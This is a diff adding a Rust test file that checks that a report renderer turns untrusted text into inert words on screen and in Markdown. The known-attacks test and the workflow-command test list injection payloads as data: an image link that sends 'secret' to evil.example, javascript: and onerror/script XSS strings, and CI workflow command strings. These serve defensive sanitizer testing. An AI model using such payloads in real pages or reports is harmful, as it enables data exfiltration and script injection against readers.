@@ -1,1 +1,226 @@
+//! Every block in both forms, at several widths; words of others in every place that takes them.
 
+use proptest::prelude::*;
+use pulldown_cmark::{Event, Options, Parser, Tag};
+use unicode_width::UnicodeWidthStr as _;
+
+use super::*;
+use crate::report::{Look, example};
+
+/// A page with every block, in which everything that can be anybody's words is `evil`.
+fn page(evil: &str) -> Page {
+    let mut page =
+        Page::new(text!["Page of ", name(evil)], text!["DONE: ", said(evil), "."].tone(Tone::Good));
+    page.banner("Nobody was asked.");
+    let blocks = page.blocks();
+    blocks.para(said(evil));
+    blocks.facts([
+        ("Task", vec![said(evil)]),
+        ("Seats", vec![name(evil), text!["2 of ", count(3_u32, "seat")]]),
+        ("Nothing", Vec::new()),
+    ]);
+    blocks.section(text!["What ", name(evil), " said"], |below| {
+        below.quote(&format!("{evil}\n{evil}")).most_on_screen(1);
+        below.code(evil);
+        below.section("Inner", |inner| {
+            inner.list([said(evil), text![path(evil), ":", 42_u32]]).numbered_from(9);
+        });
+    });
+    blocks.section("Entries", |below| {
+        let entry = || {
+            Item::new(text![said(evil), " (", code(evil), ")"]).with(|body| {
+                body.para(said(evil));
+                body.facts([("Files", vec![path(evil), path(evil)])]);
+                body.list([said(evil)]);
+            })
+        };
+        below.list([entry(), entry(), entry()]).most_on_screen(2);
+    });
+    blocks.section("Rows", |below| {
+        let row = || vec![name(evil), code(evil), percent(80)];
+        below.table(Table::new(
+            [text!["Stance of ", name(evil)], "Why".into(), "Share".into()],
+            [row(), row()],
+        ));
+    });
+    blocks.section("Empty", |below| {
+        below.list(Vec::<Text>::new());
+        below.para("");
+        below.section("Also empty", |_| {});
+    });
+    blocks.para("Only in a report.").record_only();
+    blocks.para("Only on a screen.").screen_only();
+    page
+}
+
+#[test]
+fn every_block_on_screens_of_three_widths_and_in_a_report() {
+    let page = page("Use Redis, as `src/cache.rs` does");
+    for width in [40, 80, 120] {
+        insta::assert_snapshot!(
+            format!("screen_{width}"),
+            terminal::render(&page, Look::plain(width))
+        );
+    }
+    insta::assert_snapshot!("report", markdown::render(&page));
+}
+
+#[test]
+fn colours_change_no_words_and_no_breaks() {
+    let page = page("words of others that are long enough to need more than one line of a screen");
+    let coloured = Look { colour: true, ..Look::plain(60) };
+    let painted = terminal::render(&page, coloured);
+    assert!(painted.contains("\u{1b}[1m\u{1b}[32mDONE: words"), "{painted:?}");
+    let stripped = anstream::adapter::strip_str(&painted).to_string();
+    assert_eq!(stripped, terminal::render(&page, Look::plain(60)));
+}
+
+#[test]
+fn a_section_without_anything_for_a_form_has_no_heading_in_it() {
+    let mut page = Page::new("Page", text!["DONE."]);
+    page.blocks().section("Rounds", |below| {
+        below.para("Three.").record_only();
+    });
+    assert_eq!(terminal::render(&page, Look::plain(80)), "DONE.\n");
+    assert!(markdown::render(&page).contains("## Rounds\n\nThree.\n"));
+}
+
+#[test]
+fn harmless_words_that_follow_each_other_are_made_safe_together() {
+    for (one, other) in [("https:", "//evil.example"), ("www", ".evil.example"), ("1", ". item")] {
+        let mut page = Page::new("Page", text!["DONE."]);
+        page.blocks().para(text![said(one), said(other)]);
+        let report = markdown::render(&page);
+        let whole = crate::text::sanitize::markdown(&format!("{one}{other}"));
+        assert!(report.ends_with(&format!("\n{whole}\n")), "{report}");
+    }
+}
+
+#[test]
+fn what_is_strong_is_bold_in_a_report() {
+    let mut page = Page::new("Page", text!["DONE."]);
+    page.blocks().para(text![
+        text!["Artifact of ", name("x")].tone(Tone::Strong),
+        ": ",
+        path("a_b")
+    ]);
+    page.blocks().list([text![said("One.").tone(Tone::Strong), " (", code("`"), ")"]]);
+    let report = markdown::render(&page);
+    assert!(report.ends_with("\n**Artifact of x**: a\\_b\n\n- **One.** (`` ` ``)\n"), "{report}");
+}
+
+#[test]
+fn a_screen_says_how_much_of_a_list_it_leaves_out() {
+    let mut page = Page::new("Page", text!["DONE."]);
+    page.blocks().list(["one", "two", "three"]).most_on_screen(1);
+    let screen = terminal::render(&page, Look::plain(80));
+    assert_eq!(screen, "DONE.\n* one\n... and 2 more, in the report\n");
+    assert!(markdown::render(&page).contains("- one\n- two\n- three\n"));
+}
+
+#[test]
+fn no_line_of_a_screen_is_a_command_of_a_workflow() {
+    let screen = terminal::render(&page("::error::x ##[group]"), Look::plain(80));
+    assert!(!screen.lines().any(|line| line.trim_start().starts_with("::")), "{screen}");
+    assert!(!screen.contains("##["), "{screen}");
+}
+
+/// What stands in a report besides words. `Err` names an event that no words may bring.
+fn skeleton(markdown: &str) -> Result<Vec<String>, String> {
+    let mut tags = Vec::new();
+    for event in Parser::new_ext(markdown, Options::all()) {
+        #[expect(
+            clippy::wildcard_enum_match_arm,
+            reason = "an allow-list: every other event fails"
+        )]
+        match event {
+            Event::Start(
+                tag @ (Tag::Heading { .. }
+                | Tag::Table(_)
+                | Tag::TableHead
+                | Tag::TableRow
+                | Tag::TableCell
+                | Tag::List(_)
+                | Tag::Item
+                | Tag::Strong
+                | Tag::CodeBlock(_)
+                | Tag::BlockQuote(_)),
+            ) => tags.push(format!("{tag:?}")),
+            Event::Start(Tag::Paragraph)
+            | Event::Text(_)
+            | Event::Code(_)
+            | Event::SoftBreak
+            | Event::End(_) => {}
+            other => return Err(format!("{other:?}")),
+        }
+    }
+    Ok(tags)
+}
+
+/// Asserts that words of others add nothing but words to either form of a page.
+pub(crate) fn assert_inert(page: impl Fn(&str) -> Page, evil: &str) -> Result<(), TestCaseError> {
+    let (hostile, plain) = (page(evil), page("x"));
+    for width in [40, 80] {
+        let screen = terminal::render(&hostile, Look::plain(width));
+        prop_assert!(example::is_inert(&screen), "{:?}", screen);
+    }
+    let report = markdown::render(&hostile);
+    prop_assert!(example::is_inert(&report), "{:?}", report);
+    let expected = skeleton(&markdown::render(&plain)).map_err(TestCaseError::fail)?;
+    let found =
+        skeleton(&report).map_err(|event| TestCaseError::fail(format!("{event} in\n{report}")))?;
+    prop_assert_eq!(found, expected, "{}", report);
+    Ok(())
+}
+
+#[test]
+fn known_attacks_come_out_as_words() {
+    for evil in [
+        "![x](https://evil.example/?q=secret)",
+        "[click][1]\n\n[1]: javascript:alert(1)",
+        "<img src=x onerror=alert(1)><script>alert(1)</script>",
+        "<https://evil.example>",
+        "```\n# heading\n```",
+        "Title\n===\nOther\n---",
+        "a | b\n--|--\n1 | 2",
+        "- item\n1. item\n> quote",
+        "[^1]\n\n[^1]: note",
+        "$x$ ~~y~~ **z** _w_",
+        "    code\n\ttab",
+        "| x | y |\r\n|---|---|",
+        "&lt;img&gt; &#60;b&#62;",
+        "`` ` `` |",
+        "\\|",
+    ] {
+        assert_inert(page, evil).unwrap();
+    }
+}
+
+proptest! {
+    #[test]
+    fn nothing_but_words_comes_of_the_words_of_others(evil in example::evil_text()) {
+        // Blank words leave paragraphs out, which is another page.
+        prop_assume!(!crate::text::sanitize::terminal(&evil).trim().is_empty());
+        assert_inert(page, &evil)?;
+    }
+
+    #[test]
+    fn nothing_but_strong_words_comes_of_them_where_they_are_strong(evil in example::evil_text()) {
+        prop_assume!(!crate::text::sanitize::terminal(&evil).trim().is_empty());
+        let page = |evil: &str| {
+            let mut page = Page::new("Page", text!["DONE."]);
+            page.blocks().list([text![said(evil).tone(Tone::Strong), " (low): ", said(evil)]]);
+            page
+        };
+        assert_inert(page, &evil)?;
+    }
+
+    #[test]
+    fn ordinary_words_fit_the_width(words in proptest::collection::vec("[a-z]{1,9}", 1..40), width in 60_usize..140) {
+        let screen = terminal::render(&page(&words.join(" ")), Look::plain(width));
+        // Code keeps its lines.
+        let code = words.join(" ");
+        let fits = screen.lines().all(|line| line.width() <= width || line == code);
+        prop_assert!(fits, "{}", screen);
+    }
+}
